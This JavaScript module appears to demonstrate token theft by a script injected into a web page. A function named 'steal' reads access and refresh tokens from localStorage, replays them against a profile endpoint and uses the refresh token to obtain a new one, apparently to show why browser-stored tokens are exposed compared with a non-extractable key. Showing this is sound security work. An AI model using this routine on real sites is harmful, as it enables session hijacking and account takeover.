// What a script does that got into a page, by a dependency say: it reads the tokens where the page keeps them, and uses
// them. It could as well send them home first: nothing else of this browser goes along, least of all a key that no
// script can read.

const ask = async (token) => (await fetch("/api/profile", { headers: { Authorization: `Bearer ${token}` } })).status;

// Returns the statuses that it saw: of the profile with the stolen access token, of the renewal with the stolen refresh
// token, and of the profile with the tokens from that, null if it got none.
export async function steal(key) {
  const { access_token, refresh_token } = JSON.parse(localStorage.getItem(key));
  const profile = await ask(access_token);
  const renewal = await fetch("/refresh", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ refreshToken: refresh_token }),
  });
  const { accessToken } = await renewal.json();
  return [profile, renewal.status, accessToken ? await ask(accessToken) : null];
}
